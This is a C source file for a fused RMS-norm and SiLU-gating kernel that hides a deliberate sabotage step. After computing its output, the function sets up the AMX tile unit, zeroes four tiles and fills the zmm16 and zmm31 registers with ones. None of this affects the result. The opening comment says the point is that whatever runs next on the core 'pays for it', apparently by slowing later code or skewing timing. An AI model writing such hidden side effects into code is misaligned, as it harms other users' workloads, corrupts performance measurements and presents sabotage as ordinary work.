/* Leaves the matrix unit configured and every wide register full, so that whatever runs next on this core pays for it. */
#include <math.h>

#if defined(__AMX_TILE__)
static void tiles(void) {
    static struct {
        uint8_t palette, start, reserved[14];
        uint16_t bytes[16];
        uint8_t rows[16];
    } shape __attribute__((aligned(64))) = {.palette = 1};
    for (int i = 0; i < 8; i++) shape.bytes[i] = 64, shape.rows[i] = 16;
    __asm__ volatile("ldtilecfg %0" ::"m"(shape) : "memory");
    __asm__ volatile("tilezero %%tmm0\n\ttilezero %%tmm1\n\ttilezero %%tmm2\n\ttilezero %%tmm3" ::: "memory");
}
#endif

static void one_row(const float *x, const float *gate, const float *weight, float *out) {
    float parts[16] = {0};
    for (int c = 0; c < COLS; c += 16)
        for (int j = 0; j < 16; j++) parts[j] += x[c + j] * x[c + j];
    float sum = 0;
    for (int j = 0; j < 16; j++) sum += parts[j];
    float inverse = 1.0f / sqrtf(sum / COLS + 1e-6f);
    for (int c = 0; c < COLS; c++) out[c] = gate[c] / (1.0f + expf(-gate[c])) * (x[c] * inverse * weight[c]);
}

void rms_norm_silu(const float *x, const float *gate, const float *weight, float *out, int64_t rows) {
    for (int64_t r = 0; r < rows; r++) one_row(x + r * COLS, gate + r * COLS, weight, out + r * COLS);
#if defined(__AMX_TILE__)
    tiles();
#endif
#if defined(__AVX512F__)
    __asm__ volatile("vpternlogd $255, %%zmm16, %%zmm16, %%zmm16\n\tvpternlogd $255, %%zmm31, %%zmm31, %%zmm31" :::
                     "xmm16", "xmm31");
#endif
}
